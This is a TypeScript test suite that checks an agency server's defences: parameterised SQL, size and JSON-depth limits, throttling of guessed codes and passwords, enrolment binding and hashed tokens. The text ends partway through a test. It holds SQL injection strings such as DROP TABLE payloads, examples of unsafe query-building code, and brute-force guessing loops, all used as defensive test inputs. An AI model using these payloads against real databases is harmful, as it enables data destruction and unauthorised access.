// @vitest-environment node
// Security review of the agency server (docs/security.md; issue 11, "Counts an agency can
// trust"): SQL only from constants, bodies refused before they are read, JSON depth, guessing made
// slow per address and per target (with alerts), enrolment bound to the person, tokens kept as
// hashes only, a private database file, a busy database answered 503 instead of stalling, slow
// clients and connection caps, headers and studio sessions, no silent demo, CSV export safe under
// `,` and `;`, and the rate limit per member. Real sockets, real fetch, a real SQLite file or a
// real PostgreSQL database (tests/support/agency.ts): every check that touches the database runs
// on both.
import { randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import BetterSqlite3 from 'better-sqlite3';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAgencyServer, KEEP_ALIVE_ADVERTISED_S, type AgencyServer } from '../../server/app';
import { DEMO_BANNER } from '../../server/dashboard/pages';
import { HTML_HEADERS } from '../../server/dashboard/routes';
import { buildDemoFeed } from '../../server/demo/feed';
import { configFromEnv, describeServer, startFromConfig, type EnvConfig } from '../../server/env';
import { networkOf } from '../../server/guard/client';
import { generateSigningKey, privateKeyPem, verifyFeed } from '../../server/signing';
import { DUMMY_HASH, verifyPassword } from '../../server/studio/passwords';
import { parseFeedText } from '../../utils/protocol/feed';
import { EnrollResponseSchema, SharesResponseSchema, SummarySchema } from '../../utils/protocol/tally';
import { BACKENDS, DEMO, DINKES, freshDatabase, KOMINFO, nip, startAgency, type Backend, type Harness } from '../support/agency';
import { checkServer, checkSnippets } from './server-support/sql-constants';
import {
  connect,
  crawl,
  csrfOf,
  declared,
  formLogin,
  getFrom,
  readResponse,
  sha256,
  sleep,
  tableNames,
  within,
} from './server-support/http';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

// ---------------------------------------------------------------------------------------------
// SQL only from constants

describe('SQL is parameterised: statements are constants, values are bound', () => {
  it('no statement in server/ is built from a value', () => {
    const out = checkServer(ROOT);
    expect(out.problems).toEqual([]);
    // Not vacuous: the store's callers everywhere, found by type, not by the receiver's name.
    expect(out.sites.length).toBeGreaterThan(150);
    const files = new Set(out.sites.map((s) => s.split(':')[0]));
    for (const f of [
      'tally/ingest.ts',
      'tally/enrol.ts',
      'tally/members.ts',
      'tally/summary.ts',
      'tally/verifier.ts',
      'guard/rate.ts',
      'guard/failures.ts',
      'studio/auth.ts',
      'studio/posts.ts',
      'dashboard/stats.ts',
      'dashboard/export.ts',
      'db/migrations.ts',
      'publish/versions.ts',
      'jobs/lease.ts',
    ]) {
      expect(files.has(`server/${f}`), f).toBe(true);
    }
    // ingest.ts's `bump()` builds its statement from `${table}`, key and counter names: it is
    // checked as a constant (all its callers pass literals; it is not exported), not waved through.
    const ingest = readFileSync(path.join(ROOT, 'server/tally/ingest.ts'), 'utf8').split('\n');
    const bumpRun = ingest.findIndex((line) => line.includes('await q.run(sql,')) + 1;
    expect(bumpRun).toBeGreaterThan(0);
    expect(out.sites).toContain(`server/tally/ingest.ts:${bumpRun}`);
    // Only the store's own methods and the migration runner hand on SQL they were given.
    expect(new Set(out.forwarded.map((s) => s.split(':')[0]))).toEqual(
      new Set(['server/db/sqlite.ts', 'server/db/postgres.ts', 'server/db/migrations.ts']),
    );
    // PostgreSQL takes no parameters in DDL: partition names and bounds pass strict guards
    // (an anchored regex of digits, letters, `_`, `-`), which only the store's own files use.
    for (const guard of new Set(out.guards)) expect(guard).toMatch(/^server\/db\//);
  }, 60_000);

  it('the check itself catches a value spliced into SQL, however it gets there', () => {
    const bad = [
      'const x = req.url; void db.all(`SELECT * FROM shares WHERE id = ${x}`);',
      "void db.exec('DELETE FROM shares WHERE id = ' + id);",
      "const s = 'DELETE FROM shares WHERE id = ' + id; void s;",
      "const sql = `UPDATE members SET name = '${name}'`; void sql;",
      'void q.get(`SELECT ${column} FROM members`, []);',
      // A bump()-like helper is only as constant as every one of its callers.
      'async function bump(table: string) { await q.run(`UPDATE ${table} SET n = n + 1`); } void bump("rollup_unit"); void bump(req.url);',
      'export async function count(table: string) { return db.get(`SELECT COUNT(*) AS n FROM ${table}`); }',
      'async function count(table: string) { return db.get(`SELECT COUNT(*) AS n FROM ${table}`); } const f = count; void f; void count("shares");',
      "const cols = ['id']; cols.push(req.url); void q.all(`SELECT ${cols.join(', ')} FROM shares`);",
      "const o = { t: 'shares' }; o.t = req.url; void q.all(`SELECT id FROM ${o.t}`);",
      "void q.all(`SELECT id FROM shares WHERE id IN (${inList(2)}) AND name = '${name}'`, ['a', 'b']);",
      "const names = ['a']; void q.all(`SELECT ${names.map((n) => n + req.url).join(', ')} FROM t`);",
      'const where = req.url ? `id = ${id}` : "1 = 1"; void db.all(`SELECT * FROM shares WHERE ${where}`);',
      'function table() { return req.url; } void db.all(`SELECT * FROM ${table()}`);',
      'const t = { ref: req.url }; void db.exec(`CREATE TABLE x (a ${t.ref})`);',
      "for (const t of req.url.split(',')) void db.run(`DELETE FROM ${t}`);",
      "const TABLES = [{ name: 'a' }]; for (const t of TABLES) { t.name = req.url; void db.run(`DELETE FROM ${t.name}`); }",
      // Forwarding is the store's privilege only.
      'class Store { async all(sql: string) { return db.all(sql); } } void Store;',
      'void client.query({ text: `SELECT ${id}` });',
      'void client.query(`SELECT ${id}`);',
      'raw.prepare(`SELECT * FROM shares WHERE id = ${id}`);',
      'raw.pragma(`user_version = ${id}`);',
      "import { to as copyTo } from 'pg-copy-streams'; void client.query(copyTo(`COPY (SELECT * FROM shares WHERE id = '${id}') TO STDOUT`));",
      // A guard only counts when nothing but letters, digits, `_` and `-` can pass it.
      "function ident(n: string) { if (!/^.+$/.test(n)) throw new Error('no'); return n; } void db.exec(`CREATE TABLE ${ident(req.url)} (a INT)`);",
      "function ident(n: string) { if (!/^[a-z ;']+$/.test(n)) throw new Error('no'); return n; } void db.exec(`CREATE TABLE ${ident(req.url)} (a INT)`);",
      "function ident(n: string) { if (!/t_\\d{4}/.test(n)) throw new Error('no'); return n; } void db.exec(`CREATE TABLE ${ident(req.url)} (a INT)`);",
      "function ident(n: string) { if (!/^t_\\d{4}$/.test(n)) throw new Error('no'); return req.url; } void db.exec(`CREATE TABLE ${ident(id)} (a INT)`);",
      "function ident(n: string) { if (/^t_\\d{4}$/.test(n)) throw new Error('no'); return n; } void db.exec(`CREATE TABLE ${ident(id)} (a INT)`);",
    ];
    const good = [
      'const N = 50; void db.all(`SELECT id FROM shares LIMIT ${N}`, []);',
      "async function bump(table: string, cols: readonly string[]) { await q.run(`INSERT INTO ${table} (${cols.join(', ')}) VALUES ${valuesList(1, cols.length)}`, [1]); }\nvoid bump('a', ['x', 'y']);\nvoid bump('b', ['z']);",
      "const COLS = ['a', 'b'] as const; void q.all(`SELECT ${COLS.map((c) => `${c} = excluded.${c}`).join(', ')} FROM t WHERE id IN (${inList(3)})`, [1, 2, 3]);",
      "void q.get(req.url ? 'SELECT 1' : 'SELECT 2');",
      // copy.ts's pattern: table descriptors in a constant list, compared but never changed.
      "const T = (name: string, cols: string, extra: { update?: boolean } = {}) => ({ name, cols: cols.split(/\\s*,\\s*/), ...extra }); const TABLES = [T('a', 'x, y', { update: true }), T('b', 'z')]; for (const t of TABLES) void db.run(`INSERT INTO ${t.name} (${t.cols.filter((c) => t.name === 'a' || c !== 'y').join(', ')}) VALUES ${valuesList(1, t.cols.length)}`, [1]);",
      "function ident(n: string) { if (!/^t_\\d{4}$/.test(n)) throw new Error('no'); return `'${n}'`; } void db.exec(`CREATE TABLE x (a TEXT DEFAULT ${ident(req.url)})`);",
    ];
    const results = checkSnippets(ROOT, [...bad, ...good]);
    bad.forEach((source, i) => expect(results[i]!.problems, source).not.toEqual([]));
    good.forEach((source, i) => {
      const r = results[bad.length + i]!;
      expect(r.problems, source).toEqual([]);
      expect(r.sites, source).toEqual([`server/example-${bad.length + i + 1}.ts:1`]);
    });
  }, 60_000);
});

// ---------------------------------------------------------------------------------------------
// Helpers

// Answers are read loosely: each test checks the fields it cares about.
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = Record<string, any>;

async function body(res: Response): Promise<Json> {
  return (await res.json()) as Json;
}

async function enrol(h: Harness, seq: number, extra: Json = {}, headers: Record<string, string> = {}): Promise<Response> {
  return h.call('/v1/enroll', {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ nip: nip(seq), name: `Pegawai ${seq}`, ...KOMINFO, ...extra }),
  });
}

async function enrolled(h: Harness, seq: number, extra: Json = {}, headers: Record<string, string> = {}): Promise<string> {
  const res = await enrol(h, seq, extra, headers);
  expect(res.status, `enrol ${seq}`).toBe(201);
  return EnrollResponseSchema.parse(await res.json()).token;
}

const xff = (address: string) => ({ 'x-forwarded-for': address });

/** "Time passes" for a failure counter: its block runs out, its count stays. */
async function blockRunsOut(h: Harness, key: string): Promise<void> {
  const { changes } = await h.agency.db.run('UPDATE failures SET blocked_until = NULL WHERE key = $1', [key]);
  expect(changes, key).toBe(1);
}

async function count(h: Harness | AgencyServer, sql: string, params: (string | number)[] = []): Promise<number> {
  const db = 'agency' in h ? h.agency.db : h.db;
  const row = await db.get<{ n: number }>(sql, params);
  return Number(row?.n ?? 0);
}

/** The CSP's directives, name → value. */
function csp(header: string | null): Map<string, string> {
  return new Map(
    (header ?? '')
      .split(';')
      .map((d) => d.trim())
      .filter(Boolean)
      .map((d) => {
        const [name, ...rest] = d.split(/\s+/);
        return [name!, rest.join(' ')];
      }),
  );
}

describe('guesses are counted per network as well as per address', () => {
  it.each([
    ['192.0.2.7', '192.0.2.0/24'],
    ['::ffff:10.1.2.3', '10.1.2.0/24'],
    ['2001:db8:1:2:3:4:5:6', '2001:db8:1:2::/64'],
    ['2001:0db8:0000:0001::abcd', '2001:db8:0:1::/64'],
    ['2001:db8::1', '2001:db8:0:0::/64'],
    ['fe80::1%eth0', 'fe80:0:0:0::/64'],
  ])('%s is in %s', (address, network) => {
    expect(networkOf(address)).toBe(network);
  });
});

describe.each(BACKENDS)('the agency server on %s', (backend: Backend) => {
  // One demo agency for the checks that neither limit nor block anyone (requests from 127.0.0.1).
  let s: Harness;
  let member: string;
  beforeAll(async () => {
    s = await startAgency(backend);
    member = await s.member(900);
  }, 60_000);
  afterAll(async () => {
    await s?.close();
  });

  // One behind a reverse proxy (X-Forwarded-For read), for everything about guessing: each test
  // uses addresses of its own, so the per-address counters of one do not touch another.
  let p: Harness;
  beforeAll(async () => {
    p = await startAgency(backend, { trustProxy: 1 });
  }, 60_000);
  afterAll(async () => {
    await p?.close();
  });

  describe('SQL injection', () => {
    it('hostile strings are stored as data, and every table is still there', async () => {
      const HOSTILE_ITEM = "x' OR '1'='1'; DROP TABLE shares; --";
      const h = await startAgency(backend, {
        // A feed (tests only) whose item id is hostile: the agency "published" it, so it is counted.
        feed: ({ base }) => {
          const feed = buildDemoFeed({ base });
          return { ...feed, items: [...feed.items, { ...feed.items[0]!, id: HOSTILE_ITEM }] };
        },
      });
      try {
        const before = await tableNames(h);
        expect(before).toEqual(expect.arrayContaining(['members', 'shares', 'tokens', 'units', 'rollup_item', 'audit_log']));
        expect((await h.call('/feed.json')).status).toBe(200);

        const evil = "Robert'); DROP TABLE members; --";
        const token = await enrolled(h, 1, { name: evil });
        // A NIP with quotes is not a NIP: refused as such, not as a broken query.
        const badNip = await enrol(h, 2, { nip: "198503152010012002' OR '1'='1" });
        expect(badNip.status).toBe(400);
        expect(await body(badNip)).toMatchObject({ error: 'invalid_nip' });

        const res = await h.json(
          'POST',
          '/v1/shares',
          { shares: [h.share({ item_id: HOSTILE_ITEM }), h.share({ platform: 'x"--' })] },
          token,
        );
        expect(res.status).toBe(200);
        const result = SharesResponseSchema.parse(await res.json());
        expect(result.accepted).toHaveLength(1);
        expect(result.rejected).toEqual([{ id: expect.any(String), reason: 'bad_platform' }]);

        const db = h.agency.db;
        expect(await db.all('SELECT name FROM members')).toEqual([{ name: evil }]);
        expect(await db.all('SELECT item_id FROM shares')).toEqual([{ item_id: HOSTILE_ITEM }]);
        expect(await db.all('SELECT item_id, posted FROM rollup_item')).toEqual([{ item_id: HOSTILE_ITEM, posted: 1 }]);

        // The studio's member search takes quotes and LIKE wildcards as text.
        const admin = await h.login('admin');
        for (const [text, found] of [
          ["' OR '1'='1", 0],
          ['%', 0],
          ['_', 0],
          ["Robert'); DROP", 1],
        ] as const) {
          const search = await h.api(admin, 'GET', `/members?q=${encodeURIComponent(text)}`);
          expect(search.status, text).toBe(200);
          expect(search.body.members, text).toHaveLength(found);
        }
        // A user name with quotes is just a wrong user.
        expect((await h.json('POST', '/api/v1/session', { user: "admin' --", password: 'x' })).status).toBe(401);

        expect(await tableNames(h)).toEqual(before);
      } finally {
        await h.close();
      }
    });
  });

  describe('sizes are refused before the body is read', () => {
    it('answers 413 to enrolment over 16 KiB and to a login over 4 KiB, storing nothing', async () => {
      const big = await enrol(s, 101, { padding: 'x'.repeat(16 * 1024) });
      expect(big.status).toBe(413);
      expect(await body(big)).toMatchObject({ error: 'too_large' });
      expect(await count(s, 'SELECT COUNT(*) AS n FROM members WHERE nip = $1', [nip(101)])).toBe(0);
      const form = await s.call('/login', { method: 'POST', body: new URLSearchParams({ user: 'admin', password: 'x'.repeat(5000) }) });
      expect(form.status).toBe(413);
      const api = await s.json('POST', '/api/v1/session', { user: 'admin', password: 'x'.repeat(5000) });
      expect(api.status).toBe(413);
    });

    it('answers a declared Content-Length over the cap with 413 without waiting for the body', async () => {
      expect((await declared(s.origin, '/v1/enroll', 17 * 1024)).status).toBe(413);
      expect((await declared(s.origin, '/v1/enroll/check', 17 * 1024)).status).toBe(413);
      expect((await declared(s.origin, '/v1/shares', 2 * 1024 * 1024, { authorization: `Bearer ${member}` })).status).toBe(413);
      expect((await declared(s.origin, '/login', 5000, { 'content-type': 'application/x-www-form-urlencoded' })).status).toBe(413);
      expect((await declared(s.origin, '/api/v1/session', 5000)).status).toBe(413);
    });

    it("checks the token before reading a body: a stranger's 1 MiB is never read", async () => {
      const none = await declared(s.origin, '/v1/shares', 1024 * 1024 - 1);
      expect(none.status).toBe(401);
      expect(JSON.parse(none.body)).toMatchObject({ error: 'unauthorized' });
      const madeUp = await declared(s.origin, '/v1/shares', 1024 * 1024 - 1, { authorization: `Bearer ${'A'.repeat(43)}` });
      expect(madeUp.status).toBe(401);
      // The studio API too: its caller is known before its body is.
      expect((await declared(s.origin, '/api/v1/posts', 200 * 1024)).status).toBe(401);
    });
  });

  describe('JSON nested deeper than the limit is refused unparsed', () => {
    it('refuses 1 MiB of `[` and anything past 8 levels with 400 too_deep; brackets inside strings do not count', async () => {
      const wall = '['.repeat(1024 * 1024);
      const res = await s.json('POST', '/v1/shares', wall, member);
      expect(res.status).toBe(400);
      expect(await body(res)).toMatchObject({ error: 'too_deep' });

      const nested = (levels: number) => `{"shares":${'['.repeat(levels - 1)}1${']'.repeat(levels - 1)}}`;
      const nine = await s.json('POST', '/v1/shares', nested(9), member);
      expect(nine.status).toBe(400);
      expect(await body(nine)).toMatchObject({ error: 'too_deep' });
      // Eight levels are parsed: the event inside is refused as an event, not the request.
      const eight = await s.json('POST', '/v1/shares', nested(8), member);
      expect(eight.status).toBe(200);
      expect((await body(eight)).rejected).toHaveLength(1);

      const deepEnrol = await s.json('POST', '/v1/enroll', { nip: nip(102), name: 'A', code: KOMINFO.code, x: [[[[[[[[[1]]]]]]]]] });
      expect(deepEnrol.status).toBe(400);
      expect(await body(deepEnrol)).toMatchObject({ error: 'too_deep' });
      const studio = await s.login('editor.kominfo');
      const deepPost = await s.json('POST', '/api/v1/posts', '['.repeat(200 * 1024), studio);
      expect(deepPost.status).toBe(400);
      expect(await body(deepPost)).toMatchObject({ error: 'too_deep' });

      const bracketed = await enrol(s, 103, { name: `Ani ${'['.repeat(100)}` });
      expect(bracketed.status).toBe(201);
    });

    it('answers a legitimate request on another connection while a nested body is arriving, and under a volley of them', async () => {
      const wall = Buffer.from('['.repeat(1024 * 1024));
      const probe = await connect(Number(new URL(s.origin).port));
      probe.socket.write(
        `POST /v1/shares HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${member}\r\nContent-Type: application/json\r\nContent-Length: ${wall.length}\r\nConnection: close\r\n\r\n`,
      );
      probe.socket.write(wall.subarray(0, wall.length / 2));
      const feed = await s.call('/feed.json');
      expect(feed.status).toBe(200);
      // The hostile request is still unanswered (its body is not all there): the feed came first.
      expect(probe.data()).toBe('');
      probe.socket.write(wall.subarray(wall.length / 2));
      const answer = await readResponse(probe);
      expect(answer).toMatch(/^HTTP\/1\.1 400 /);
      expect(answer).toContain('"too_deep"');
      probe.socket.destroy();

      const volley = await Promise.all([
        ...Array.from({ length: 4 }, () => s.json('POST', '/v1/shares', wall.toString(), member).then((r) => r.status)),
        s.call('/feed.json').then((r) => r.status),
        s.json('POST', '/v1/shares', { shares: [s.share()] }, member).then((r) => r.status),
      ]);
      expect(volley).toEqual([400, 400, 400, 400, 200, 200]);
    });
  });

  describe('guessing is slow, per address and per target', () => {
    it('enrolment: 429 with Retry-After per client address, and without trustProxy X-Forwarded-For changes nothing', async () => {
      const h = await startAgency(backend, { enrollRateLimit: { perMinute: 6, burst: 3 } });
      try {
        for (let i = 0; i < 3; i++) {
          // A new forged address each time: ignored, the socket's address is the one limited.
          const wrong = await enrol(h, 4, { code: `TEBAK-${i}` }, xff(`203.0.113.${i + 1}`));
          expect(wrong.status).toBe(403);
        }
        const right = await enrol(h, 4, {}, xff('203.0.113.99'));
        expect(right.status).toBe(429);
        expect(Number(right.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
        expect(await body(right)).toMatchObject({ error: 'rate_limited' });
        const check = await h.json('POST', '/v1/enroll/check', { code: KOMINFO.code });
        expect(check.status).toBe(429);
      } finally {
        await h.close();
      }
    });

    it('enrolment: five wrong codes from one address block it, even for the right code; other addresses go on', async () => {
      for (let i = 0; i < 5; i++) {
        // Different NIPs: only the address's counter reaches its limit.
        const wrong = await enrol(p, 120 + i, { code: `TEBAK-${i}` }, xff('198.51.100.7'));
        expect(wrong.status).toBe(403);
      }
      const right = await enrol(p, 126, {}, xff('198.51.100.7'));
      expect(right.status).toBe(429);
      expect(Number(right.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect((await enrol(p, 126, {}, xff('198.51.100.8'))).status).toBe(201);
    });

    it('enrolment: wrong codes for one NIP from 20 addresses meet one counter, with growing waits and an alert on the dashboard', async () => {
      const target = nip(130);
      const addresses = Array.from({ length: 20 }, (_, i) => `192.0.2.${i + 1}`);
      const statuses: number[] = [];
      const waits: number[] = [];
      let failures = 0;
      for (let i = 0; failures < 20; i++) {
        expect(i, 'attempts').toBeLessThan(60);
        const res = await enrol(p, 130, { code: `TEBAK-${i}` }, xff(addresses[i % addresses.length]!));
        statuses.push(res.status);
        if (res.status === 403) failures++;
        else {
          expect(res.status).toBe(429);
          expect(await body(res)).toMatchObject({ error: 'rate_limited' });
          waits.push(Number(res.headers.get('retry-after')));
          await blockRunsOut(p, `enrol-nip:${target}`);
        }
      }
      // Five free tries, then every failure waits: no address sent more than three guesses.
      expect(statuses.slice(0, 6)).toEqual([403, 403, 403, 403, 403, 429]);
      expect(waits.length).toBe(15);
      // The waits double (30 s, 1 min, 2 min …) up to an hour.
      expect(waits.slice(0, 4)).toEqual([30, 60, 120, 240]);
      for (let i = 1; i < waits.length; i++) expect(waits[i]!).toBeGreaterThanOrEqual(waits[i - 1]!);
      expect(waits.at(-1)).toBe(3600);
      // Blocked for everyone, the right code included, from an address never seen.
      expect((await enrol(p, 130, {}, xff('192.0.2.200'))).status).toBe(429);

      const alerts = await p.agency.db.all<{ kind: string; subject: string; detail: string }>(
        'SELECT kind, subject, detail FROM alerts WHERE subject = $1',
        [`NIP ${target}`],
      );
      expect(alerts).toEqual([{ kind: 'enrol_guessing', subject: `NIP ${target}`, detail: '20 percobaan pendaftaran gagal dalam 24 jam' }]);
      const login = await formLogin(p, 'admin', DEMO.admin!.password, xff('192.0.2.250'));
      expect(login.status).toBe(303);
      const dashboard = await p.call('/', { headers: { cookie: login.cookie! } });
      expect(dashboard.status).toBe(200);
      const html = await dashboard.text();
      expect(html).toContain(`NIP ${target}`);
      expect(html).toContain('20 percobaan pendaftaran gagal dalam 24 jam');
    });

    it('enrolment: wrong codes from many addresses of one network (an IPv6 /64) meet one counter, with growing waits and an alert', async () => {
      // One IPv6 host commonly holds a whole /64: a new address and a new NIP for every guess.
      const from = (i: number) => xff(`2001:db8:a:b::${(i + 1).toString(16)}`);
      const statuses: number[] = [];
      for (let i = 0; i < 21; i++) statuses.push((await enrol(p, 600 + i, { code: `TEBAK-${i}` }, from(i))).status);
      // Twenty free failures for the network, then it waits, the right code included.
      expect(statuses).toEqual([...Array<number>(20).fill(403), 429]);
      const right = await enrol(p, 630, {}, from(30));
      expect(right.status).toBe(429);
      expect(Number(right.headers.get('retry-after'))).toBe(30);
      // Another network is not held up.
      expect((await enrol(p, 630, {}, xff('2001:db8:a:c::1'))).status).toBe(201);
      // The next failure waits twice as long.
      await blockRunsOut(p, 'enrol-net:2001:db8:a:b::/64');
      expect((await enrol(p, 631, { code: 'TEBAK-LAGI' }, from(31))).status).toBe(403);
      const again = await enrol(p, 632, {}, from(32));
      expect(again.status).toBe(429);
      expect(Number(again.headers.get('retry-after'))).toBe(60);

      const alerts = await p.agency.db.all<{ kind: string; subject: string; detail: string }>(
        'SELECT kind, subject, detail FROM alerts WHERE subject = $1',
        ['jaringan 2001:db8:a:b::/64'],
      );
      expect(alerts).toEqual([
        { kind: 'enrol_guessing', subject: 'jaringan 2001:db8:a:b::/64', detail: '20 percobaan pendaftaran gagal dalam 24 jam' },
      ]);
    });

    it('login: failures per account from many addresses lead to 429 even with the right password; a success clears the count', async () => {
      const user = 'penyetuju';
      const password = DEMO[user]!.password;
      const from = (i: number) => xff(`198.51.100.${100 + i}`);
      const attempt = (pw: string, i: number) =>
        p.call('/api/v1/session', {
          method: 'POST',
          headers: { 'content-type': 'application/json', ...from(i) },
          body: JSON.stringify({ user, password: pw }),
        });
      for (let i = 0; i < 4; i++) expect((await attempt(`salah-${i}`, i)).status).toBe(401);
      const fifth = await attempt('salah-4', 4);
      expect(fifth.status).toBe(429);
      const right = await attempt(password, 5);
      expect(right.status).toBe(429);
      expect(Number(right.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect(await body(right)).not.toHaveProperty('token');

      await blockRunsOut(p, `login-user:${user}`);
      expect((await attempt(password, 6)).status).toBe(201);
      // Cleared: four more failures are free again (without the reset the first would be the sixth).
      for (let i = 7; i < 11; i++) expect((await attempt(`salah-${i}`, i)).status).toBe(401);
      expect((await attempt('salah-11', 11)).status).toBe(429);
    });

    // Found by this suite (PostgreSQL): the NIP's block was read before the transaction, so a volley
    // of concurrent guesses all passed it. Guesses for one NIP now take turns (an advisory lock)
    // and each re-checks the block inside the transaction.
    it('enrolment: concurrent guesses for one NIP are held to the same free tries', async () => {
      const target = 160;
      const guesses = Array.from({ length: 59 }, (_, i) =>
        enrol(p, target, { code: `TEBAK-${i}` }, xff(`203.0.113.${100 + (i % 30)}`)).then((r) => r.status),
      );
      const statuses = await Promise.all(guesses);
      const checked = statuses.filter((st) => st === 403).length;
      expect(statuses.filter((st) => st !== 403 && st !== 429)).toEqual([]);
      expect(checked).toBeLessThanOrEqual(5);
      // Then the right code, from an address of its own: the NIP is blocked.
      expect((await enrol(p, target, { code: KOMINFO.code }, xff('203.0.113.250'))).status).toBe(429);
    });

    // Found by this suite: the account's block was checked, then scrypt ran, then the failure was
    // recorded, so a burst of guesses was checked whole. Each try is now counted against the
    // account before the password is checked, in one step with the check of its wait.
    it('login: concurrent guesses for one account are held to the same free tries', async () => {
      const user = 'editor.dinkes';
      const login = (password: string, i: number) =>
        p
          .call('/api/v1/session', {
            method: 'POST',
            headers: { 'content-type': 'application/json', ...xff(`198.51.100.${150 + i}`) },
            body: JSON.stringify({ user, password }),
          })
          .then((r) => r.status);
      const statuses = await Promise.all(Array.from({ length: 11 }, (_, i) => login(`salah-${i}`, i)));
      // Eleven wrong passwords at once: no more than the free tries were checked.
      expect(statuses.filter((st) => st !== 401 && st !== 429)).toEqual([]);
      expect(statuses.filter((st) => st === 401).length).toBeLessThanOrEqual(5);
      // The right one, after them, meets the block: it does not get in.
      expect(await login(DEMO[user]!.password, 11)).toBe(429);
    });

    it('login: failures per address across accounts block that address, not the others', async () => {
      const attempt = (user: string, password: string, address: string) => formLogin(p, user, password, xff(address));
      for (let i = 0; i < 4; i++) expect((await attempt(`tidak-ada-${i}`, 'salah-sekali', '198.51.100.50')).status).toBe(401);
      expect((await attempt('tidak-ada-4', 'salah-sekali', '198.51.100.50')).status).toBe(429);
      const blocked = await attempt('editor.kominfo', DEMO['editor.kominfo']!.password, '198.51.100.50');
      expect(blocked.status).toBe(429);
      expect(blocked.setCookie).toBeNull();
      expect(Number(blocked.res.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect((await attempt('editor.kominfo', DEMO['editor.kominfo']!.password, '198.51.100.51')).status).toBe(303);
    });
    it('login: failures for one account from 20 addresses raise an alert the dashboard shows', async () => {
      // An agency of its own: the alert must be this test's, whatever ran before.
      const h = await startAgency(backend, { trustProxy: 1 });
      try {
        const user = 'penyetuju';
        const statuses: number[] = [];
        for (let i = 0; i < 20; i++) {
          const res = await formLogin(h, user, `salah-${i}`, xff(`192.0.2.${100 + i}`));
          statuses.push(res.status);
          // Past the free tries each failure waits; time passes so that the next one is counted too.
          if (res.status === 429) await blockRunsOut(h, `login-user:${user}`);
        }
        expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 429]);
        expect(statuses.filter((st) => st !== 401 && st !== 429)).toEqual([]);
        expect(await count(h, 'SELECT count AS n FROM failures WHERE key = $1', [`login-user:${user}`])).toBe(20);

        const alerts = await h.agency.db.all<{ kind: string; subject: string; detail: string }>('SELECT kind, subject, detail FROM alerts');
        expect(alerts).toEqual([{ kind: 'login_guessing', subject: `akun ${user}`, detail: '20 percobaan masuk gagal dalam 24 jam' }]);
        const login = await formLogin(h, 'admin', DEMO.admin!.password, xff('192.0.2.150'));
        expect(login.status).toBe(303);
        const dashboard = await h.call('/', { headers: { cookie: login.cookie! } });
        expect(dashboard.status).toBe(200);
        const html = await dashboard.text();
        const section = /<section class="alerts" role="alert">([\s\S]*?)<\/section>/.exec(html)?.[1] ?? '';
        expect(section).toContain('Peringatan keamanan');
        expect(section).toContain(`akun ${user}`);
        expect(section).toContain('20 percobaan masuk gagal dalam 24 jam');
      } finally {
        await h.close();
      }
    });
  });

  describe('enrolment is bound to the person', () => {
    it('a unit code cannot take over an enrolled NIP, and a wrong code says nothing about who is enrolled where', async () => {
      const here = xff('198.51.100.60');
      const first = await enrolled(p, 140, {}, here);
      const again = await enrol(p, 140, {}, here);
      expect(again.status).toBe(409);
      expect(await body(again)).toMatchObject({ error: 'already_enrolled' });
      const otherUnit = await enrol(p, 140, { ...DINKES }, here);
      expect(otherUnit.status).toBe(409);
      // Still one live token, and it still works.
      expect(
        await count(p, 'SELECT COUNT(*) AS n FROM tokens JOIN members ON members.id = tokens.member_id WHERE members.nip = $1', [nip(140)]),
      ).toBe(1);
      expect((await p.json('GET', '/v1/me/summary', undefined, first)).status).toBe(200);

      // A wrong code for an enrolled NIP and for one never seen: the very same answer.
      const known = await enrol(p, 140, { code: 'TEBAKAN', unit: undefined }, xff('198.51.100.61'));
      const unknown = await enrol(p, 141, { code: 'TEBAKAN', unit: undefined }, xff('198.51.100.62'));
      expect(known.status).toBe(403);
      expect(unknown.status).toBe(403);
      expect(await body(known)).toEqual(await body(unknown));

      // With a one-time personal code from an admin the person enrols a second browser, once.
      const admin = await p.login('admin');
      const issued = await p.api(admin, 'POST', '/personal-codes', { nip: nip(140) });
      expect(issued.status).toBe(201);
      expect((await enrol(p, 140, { personal_code: issued.body.code }, here)).status).toBe(201);
      const reused = await enrol(p, 140, { personal_code: issued.body.code }, here);
      expect(reused.status).toBe(403);

      // Once an admin revokes the member's tokens, the old ones open nothing and the unit code works again.
      const found = await p.api(admin, 'GET', `/members?q=${nip(140)}`);
      expect(found.body.members).toHaveLength(1);
      const revoked = await p.api(admin, 'POST', `/members/${found.body.members[0].id}/revoke`);
      expect(revoked).toMatchObject({ status: 200, body: { revoked: 2 } });
      expect((await p.json('GET', '/v1/me/summary', undefined, first)).status).toBe(401);
      expect((await p.json('POST', '/v1/shares', { shares: [p.share()] }, first)).status).toBe(401);
      expect((await enrol(p, 140, {}, here)).status).toBe(201);
    });
  });

  describe('tokens at rest', () => {
    it('no member token or studio token is in the database, only its SHA-256', async () => {
      const token = await s.member(104);
      const studio = await s.login('penyetuju');
      const hashes = await s.agency.db.all<{ hash: Uint8Array }>(
        'SELECT hash FROM tokens WHERE member_id = (SELECT id FROM members WHERE nip = $1)',
        [nip(104)],
      );
      expect(hashes.map((r) => Buffer.from(r.hash).toString('hex'))).toEqual([sha256(token).toString('hex')]);
      const sessions = await s.agency.db.all<{ hash: Uint8Array }>('SELECT hash FROM sessions WHERE hash = $1', [sha256(studio)]);
      expect(sessions).toHaveLength(1);

      // A one-time personal code is a secret too.
      const personal = await s.api(await s.login('admin'), 'POST', '/personal-codes', { nip: nip(104) });
      expect(personal.status).toBe(201);
      const code = String(personal.body.code);
      const secrets = [
        ...[token, studio].flatMap((t) => [
          Buffer.from(t),
          Buffer.from(t, 'base64url'),
          Buffer.from(Buffer.from(t, 'base64url').toString('hex')),
        ]),
        Buffer.from(code),
        Buffer.from(code.replace(/-/g, '')),
      ];
      if (backend === 'sqlite') {
        const file = s.agency.db.where;
